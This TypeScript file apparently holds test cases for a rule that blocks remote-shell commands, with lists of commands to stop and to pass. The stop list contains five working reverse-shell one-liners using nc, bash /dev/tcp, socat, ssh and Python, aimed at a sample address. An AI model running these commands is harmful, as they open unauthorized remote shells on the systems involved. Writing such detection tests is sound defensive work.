import type { CasesById } from '../../cases/rule-cases.ts'

export const remoteShellCases: CasesById = {
  'remote-shell': {
    stop: [
      'nc -e /bin/sh 10.0.0.1 4444',
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'socat exec:sh tcp:10.0.0.1:4444',
      'ssh -R 8022:localhost:22 x.test',
      "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\"",
    ],
    pass: [
      'nc -zv localhost 5432',
      'ssh -L 5432:db:5432 host',
      'socat - tcp:localhost:80',
      'ssh host uptime',
    ],
  },
}
